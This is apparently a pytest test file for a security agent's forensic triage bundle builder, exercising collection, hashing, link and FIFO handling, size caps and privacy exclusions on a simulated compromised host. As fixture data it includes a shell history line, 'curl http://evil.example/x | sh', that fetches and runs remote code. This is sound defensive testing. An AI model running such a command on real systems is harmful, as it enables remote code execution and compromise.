"""The triage bundle built on this machine from a file system tree the tests make under tmp."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import sys
import tarfile
import tempfile
import threading
import time
import types
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.triage_host import SECRET, make_host, write_file
from vigil.agent.respond import ActionContext, triage
from vigil.agent.respond.errors import ResponseError
from vigil.agent.respond.triage import TriageOptions, build_bundle
from vigil.agent.respond.triage_fs import Tree, Unavailable
from vigil.agent.spool import FILE_NAME, Spool

NOBODY = 65534


@pytest.fixture
def host(tmp_path: Path) -> Path:
    return make_host(tmp_path)


@pytest.fixture
def context(tmp_path: Path) -> ActionContext:
    state = tmp_path / "state"
    state.mkdir()
    return ActionContext(
        agent_id="a" * 32, state_dir=str(state), server_host="localhost", server_port=1
    )


def build(
    context: ActionContext, root: Path, now: float | None = None, **params: Any
) -> tuple[dict[str, Any], dict[str, bytes], Path]:
    """Build a bundle; return its manifest, its members' bytes and the archive."""
    archive = Path(context.state_dir) / "bundle.tar.gz"
    archive.unlink(missing_ok=True)
    manifest = build_bundle(archive, TriageOptions.from_params(params), context, str(root), now)
    members: dict[str, bytes] = {}
    with tarfile.open(archive) as tar:
        for member in tar.getmembers():
            assert member.isfile(), f"{member.name} is not a plain file"
            handle = tar.extractfile(member)
            assert handle is not None
            members[member.name] = handle.read()
    assert json.loads(members["manifest.json"]) == json.loads(json.dumps(manifest, default=str))
    return manifest, members, archive


def skipped(manifest: dict[str, Any]) -> dict[str, str]:
    return {s["source"]: s["reason"] for s in manifest["skipped"]}


def test_the_bundle_holds_each_place_and_the_manifest_hashes_every_member(
    context: ActionContext, host: Path
) -> None:
    manifest, members, _ = build(context, host)

    expected = {
        "files/etc/passwd",
        "files/etc/group",
        "files/root/.bash_history",
        "files/home/alice/.bash_history",
        "files/home/alice/.zsh_history",
        "files/srv/svc/.sh_history",
        "files/home/alice/.ssh/authorized_keys",
        "files/home/alice/.config/systemd/user/miner.service",
        "files/etc/crontab",
        "files/etc/cron.d/job",
        "files/var/spool/cron/crontabs/alice",
        "files/etc/systemd/system/backdoor.service",
        "files/tmp/dropper",
        "files/tmp/.hidden/payload",
        "files/dev/shm/x",
        "live/processes.json",
        "live/sockets.json",
        "recent/recent_files.json",
        "manifest.json",
    }
    assert expected <= set(members)
    assert "files/etc/shadow" not in members
    assert members["files/root/.bash_history"] == b"curl http://evil.example/x | sh\n"

    # Every member but the manifest is listed once, with its true size and sha256.
    listed = {e["name"]: e for e in manifest["entries"]}
    assert len(listed) == len(manifest["entries"])
    assert set(listed) == set(members) - {"manifest.json"}
    for name, entry in listed.items():
        assert entry["size"] == len(members[name]), name
        assert entry["sha256"] == hashlib.sha256(members[name]).hexdigest(), name
    alice = listed["files/var/spool/cron/crontabs/alice"]
    assert alice["source"] == "/var/spool/cron/crontabs/alice" and alice["category"] == "cron"
    assert alice["mode"] == "0o600"
    assert manifest["counts"]["entries"] == len(listed)
    assert manifest["root"] == str(host) and manifest["agent_id"] == context.agent_id

    processes = json.loads(members["live/processes.json"])
    me = next(p for p in processes if p["pid"] == os.getpid())
    assert me["cmdline"] == psutil_cmdline() and me["ppid"] == os.getppid()
    assert me["entity_id"] and me["parent_entity_id"] and me["user"]
    assert "sha256" not in me
    assert isinstance(json.loads(members["live/sockets.json"]), list)

    recent = {row["path"]: row for row in json.loads(members["recent/recent_files.json"])}
    assert recent["/tmp/dropper"]["type"] == "file" and recent["/tmp/dropper"]["size"] == 64
    assert recent["/tmp/pipe"]["type"] == "fifo"
    assert recent["/tmp/link"]["link_target"] == str(host.parent / "outside" / "secret")


def psutil_cmdline() -> list[str]:
    return Path("/proc/self/cmdline").read_bytes().decode().split("\0")[:-1]


def test_links_are_listed_and_never_followed(context: ActionContext, host: Path) -> None:
    manifest, members, archive = build(context, host)

    links = {link["source"]: link["target"] for link in manifest["links"]}
    assert links["/home/carol/.bash_history"] == "/dev/null"
    assert links["/home/bob"] == str(host.parent / "outside")
    assert links["/etc/cron.d/escape"] == str(host.parent / "outside" / "secret")
    assert links["/tmp/link"] == str(host.parent / "outside" / "secret")
    assert links["/etc/systemd/system/multi-user.target.wants/backdoor.service"] == (
        "/etc/systemd/system/backdoor.service"
    )
    assert not any(name.startswith("files/home/bob") for name in members)
    assert not any(SECRET in data for data in members.values())
    with tarfile.open(archive) as tar:
        raw = b"".join(
            tar.extractfile(m).read()  # type: ignore[union-attr]
            for m in tar.getmembers()
        )
    assert SECRET not in raw


def test_fifos_are_never_opened_and_do_not_block(context: ActionContext, host: Path) -> None:
    done: list[tuple[dict[str, Any], dict[str, bytes], Path]] = []
    worker = threading.Thread(target=lambda: done.append(build(context, host)), daemon=True)
    worker.start()
    worker.join(timeout=120)
    assert done, "building the bundle blocked (on a FIFO?)"
    manifest, members, _ = done[0]
    assert skipped(manifest)["/etc/cron.d/pipe"] == "not_regular"
    assert "files/tmp/pipe" not in members and "files/etc/cron.d/pipe" not in members


def test_files_over_the_per_file_cap_are_skipped_and_listed(
    context: ActionContext, host: Path
) -> None:
    write_file(host, "/var/tmp/big.bin", os.urandom(200_000))
    write_file(host, "/home/alice/.bash_history", b"x" * 150_000)

    manifest, members, _ = build(context, host, per_file_max_bytes=100_000)

    reasons = skipped(manifest)
    assert reasons["/var/tmp/big.bin"] == "too_big"
    assert reasons["/home/alice/.bash_history"] == "too_big"
    detail = next(s["detail"] for s in manifest["skipped"] if s["source"] == "/var/tmp/big.bin")
    assert "200000 bytes, over 100000" in detail
    assert "files/var/tmp/big.bin" not in members and "files/tmp/dropper" in members
    assert manifest["counts"]["skipped_by_reason"]["too_big"] == 2


@pytest.mark.parametrize("cap", [30_000, 120_000, 400_000], ids=lambda c: f"cap-{c}")
def test_the_archive_never_passes_the_total_cap(
    context: ActionContext, host: Path, cap: int
) -> None:
    # Incompressible files, so gzip cannot hide an accounting error.
    for index in range(12):
        write_file(host, f"/tmp/blob{index:02d}", os.urandom(40_000))

    manifest, members, archive = build(
        context, host, max_bytes=cap, per_file_max_bytes=min(cap, 50_000)
    )

    assert archive.stat().st_size <= cap
    assert manifest["counts"]["skipped_by_reason"]["over_total_cap"] >= 1
    over = [s for s in manifest["skipped"] if s["reason"] == "over_total_cap"]
    assert over and all("do not fit" in s["detail"] for s in over)
    counts = manifest["counts"]
    listed = len(manifest["skipped"]) + len(manifest["links"])
    assert listed + counts["unlisted"] == counts["skipped"] + counts["links"]
    blobs = [n for n in members if n.startswith("files/tmp/blob")]
    assert len(blobs) < 12
    # Volatile data goes first: with room for anything, the process table is there.
    if cap >= 120_000:
        assert "live/processes.json" in members


def test_the_recent_window_uses_change_times(context: ActionContext, host: Path) -> None:
    later = time.time() + 3 * 24 * 3600
    future = write_file(host, "/tmp/future", b"stamped ahead")
    os.utime(future, (later, later))

    manifest, members, _ = build(context, host, now=later, since_minutes=60)

    recent = json.loads(members["recent/recent_files.json"])
    assert [row["path"] for row in recent] == ["/tmp/future"]
    assert "files/tmp/future" in members and "files/tmp/dropper" not in members
    assert manifest["params"]["since_minutes"] == 60


def test_telemetry_from_memory_and_from_the_spool(context: ActionContext, host: Path) -> None:
    now = time.time()
    old = "2020-01-01T00:00:00.000000Z"
    fresh = [
        {"@timestamp": time.strftime("%Y-%m-%dT%H:%M:%S.000000Z", time.gmtime(now - i)), "n": i}
        for i in (30, 20, 10)
    ]
    context.recent_events = lambda: [{"@timestamp": old, "n": 99}, *fresh]
    spool = Spool(Path(context.state_dir) / FILE_NAME)
    spool.append([{"@timestamp": old, "n": 98}, *fresh])
    spool.ack(0)

    _, members, _ = build(context, host, max_events=2, since_minutes=5)

    memory = [json.loads(line) for line in members["telemetry/recent.jsonl"].splitlines()]
    assert [e["n"] for e in memory] == [20, 10]
    unsent = [json.loads(line) for line in members["telemetry/unsent.jsonl"].splitlines()]
    assert [(e["n"], e["event"]["sequence"]) for e in unsent] == [(20, 3), (10, 4)]

    # What the server acknowledged is no longer in the spool, nor in unsent.jsonl.
    spool.ack(4)
    spool.close()
    _, members, _ = build(context, host, max_events=2, since_minutes=5)
    assert members["telemetry/unsent.jsonl"] == b""


def test_without_a_spool_the_bundle_says_so(context: ActionContext, host: Path) -> None:
    manifest, members, _ = build(context, host)
    reasons = skipped(manifest)
    assert reasons["agent memory"] == "missing"
    assert reasons[str(Path(context.state_dir) / FILE_NAME)] == "missing"
    assert "files/etc/passwd" in members


def test_executables_are_hashed_when_asked(context: ActionContext, host: Path) -> None:
    manifest, members, _ = build(context, host, hash_executables=True)
    processes = json.loads(members["live/processes.json"])
    me = next(p for p in processes if p["pid"] == os.getpid())
    assert me["sha256"] == hashlib.sha256(Path("/proc/self/exe").read_bytes()).hexdigest()
    assert me["exe"] == os.path.realpath(sys.executable)
    assert manifest["params"]["hash_executables"] is True


def test_the_time_limit_stops_gathering_and_sends_what_is_there(
    context: ActionContext, host: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A clock that jumps a minute at every look stands in for a very slow host.
    ticks = iter(range(0, 10**9, 60))
    clock = types.SimpleNamespace(
        monotonic=lambda: float(next(ticks)),
        time=time.time,
        gmtime=time.gmtime,
        strftime=time.strftime,
    )
    monkeypatch.setattr(triage, "time", clock)
    before = len(os.listdir("/proc/self/fd"))

    manifest, members, _ = build(context, host, timeout_seconds=100)

    assert len(os.listdir("/proc/self/fd")) == before

    reasons = [s for s in manifest["skipped"] if s["reason"] == "timeout"]
    assert reasons and reasons[0]["detail"] == "100 s passed"
    assert "live/processes.json" in members and "files/tmp/dropper" not in members


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"max_bytes": 0}, "'max_bytes' must be a positive integer"),
        ({"max_bytes": 200 * 1024 * 1024}, "over the limit of 104857600 bytes"),
        ({"max_bytes": 1000, "per_file_max_bytes": 2000}, "'per_file_max_bytes' 2000 is over"),
        ({"per_file_max_bytes": -1}, "'per_file_max_bytes' must be an integer from 0"),
        ({"since_minutes": 0}, "'since_minutes' must be an integer from 1 to 527040"),
        ({"since_minutes": "60"}, "'since_minutes' must be an integer"),
        ({"max_events": True}, "'max_events' must be an integer"),
        ({"hash_executables": "yes"}, "'hash_executables' must be true or false"),
        ({"timeout_seconds": 0}, "'timeout_seconds' must be an integer from 1 to 3600"),
        ({"max_byte": 10}, "unknown parameter 'max_byte'; known: .*max_bytes"),
        ({"root": "/tmp"}, "unknown parameter 'root'"),
    ],
    ids=[
        "max-bytes-zero",
        "max-bytes-over-limit",
        "per-file-over-total",
        "per-file-negative",
        "since-zero",
        "since-text",
        "events-bool",
        "hash-text",
        "timeout-zero",
        "typo",
        "root-not-a-task-param",
    ],
)
def test_bad_parameters_are_refused(params: dict[str, Any], message: str) -> None:
    with pytest.raises(ResponseError, match=message):
        TriageOptions.from_params(params)


def test_a_small_max_bytes_lowers_the_default_per_file_cap() -> None:
    options = TriageOptions.from_params({"max_bytes": 5000})
    assert options.per_file_max_bytes == 5000


@pytest.fixture
def shared_base() -> Iterator[Path]:
    """A folder another user can enter (pytest's tmp folders are private to root)."""
    base = Path(tempfile.mkdtemp(prefix="vigil-triage-"))
    base.chmod(0o755)
    try:
        yield base
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_unreadable_files_and_folders_are_skipped_not_fatal(shared_base: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to build the bundle as another user")
    root = make_host(shared_base)
    for folder in [root, *(p for p in root.rglob("*") if p.is_dir() and not p.is_symlink())]:
        folder.chmod(0o755)
    (root / "home/alice/.bash_history").chmod(0o600)
    (root / "tmp/locked").mkdir(mode=0o700)
    state = shared_base / "state"
    state.mkdir(mode=0o777)
    state.chmod(0o777)
    context = ActionContext(
        agent_id="b" * 32, state_dir=str(state), server_host="localhost", server_port=1
    )
    archive = state / "bundle.tar.gz"

    # Build in a child that runs as nobody, to whom root's 0600 files are unreadable.
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        code = 1
        try:
            os.setgroups([])
            os.setegid(NOBODY)
            os.seteuid(NOBODY)
            manifest = build_bundle(archive, TriageOptions(), context, str(root))
            (state / "manifest.out").write_text(json.dumps(manifest, default=str))
            code = 0
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0

    manifest = json.loads((state / "manifest.out").read_text())
    reasons = skipped(manifest)
    assert reasons["/home/alice/.bash_history"] == "unreadable"
    assert reasons["/var/spool/cron/crontabs/alice"] == "unreadable"
    assert reasons["/tmp/locked"] == "unreadable"
    detail = next(s for s in manifest["skipped"] if s["source"] == "/home/alice/.bash_history")
    assert "Permission denied" in detail["detail"]
    names = {e["name"] for e in manifest["entries"]}
    assert {"files/etc/passwd", "files/home/alice/.zsh_history", "files/tmp/dropper"} <= names
    with tarfile.open(archive) as tar:
        assert "files/home/alice/.bash_history" not in tar.getnames()


def test_a_file_that_vanishes_after_listing_is_reported(context: ActionContext, host: Path) -> None:
    tree = Tree(str(host))
    try:
        listed = tree.lstat("/tmp/dropper")
        (host / "tmp/dropper").unlink()
        with pytest.raises(Unavailable) as caught:
            tree.read("/tmp/dropper", 1000, context.state_dir, expected=listed)
        assert caught.value.reason == "vanished"
        write_file(host, "/tmp/dropper", b"first")
        listed = tree.lstat("/tmp/dropper")
        # Moved away (so its inode stays in use) and replaced by another file.
        (host / "tmp/dropper").rename(host / "tmp/dropper.old")
        write_file(host, "/tmp/dropper", b"another file at the same name")
        with pytest.raises(Unavailable) as caught:
            tree.read("/tmp/dropper", 1000, context.state_dir, expected=listed)
        assert caught.value.reason == "vanished" and "replaced" in caught.value.detail
    finally:
        tree.close()


def test_members_are_plain_private_files(context: ActionContext, host: Path) -> None:
    (host / "tmp/dropper").chmod(0o4755)
    manifest, _, archive = build(context, host)
    with tarfile.open(archive) as tar:
        modes = {m.name: m.mode for m in tar.getmembers()}
    assert set(modes.values()) == {0o600}
    entry = next(e for e in manifest["entries"] if e["name"] == "files/tmp/dropper")
    assert entry["mode"] == oct(0o4755)


def test_long_walks_stop_at_the_limit_and_leave_no_folder_open(
    context: ActionContext, host: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for index in range(6):
        write_file(host, f"/tmp/deep/{index}/file", b"x")
    monkeypatch.setattr(triage, "MAX_WALK_ENTRIES", 3)
    before = len(os.listdir("/proc/self/fd"))

    manifest, _, _ = build(context, host)

    assert len(os.listdir("/proc/self/fd")) == before
    limits = [s for s in manifest["skipped"] if s["reason"] == "limit"]
    assert "/tmp" in {s["source"] for s in limits}
    assert all("stopped after 3 entries" in s["detail"] for s in limits)


def test_private_folders_such_as_the_servers_data_never_enter_the_bundle(
    context: ActionContext, host: Path
) -> None:
    # Under `vigil up` the server's data folder (its keys, its admin token) is on this host,
    # often under /tmp: a bundle any analyst can download must not carry it.
    data = host / "tmp" / "vigil-data"
    write_file(host, "/tmp/vigil-data/admin-token", b"secret-admin-token")
    write_file(host, "/tmp/vigil-data/pki/ca.key", b"secret-key")
    context.private_paths = (str(data),)

    _, members, _ = build(context, host)

    assert "files/tmp/dropper" in members  # the rest of /tmp is still collected
    assert not [name for name in members if "vigil-data" in name]
    assert not any(b"secret-" in body for body in members.values())
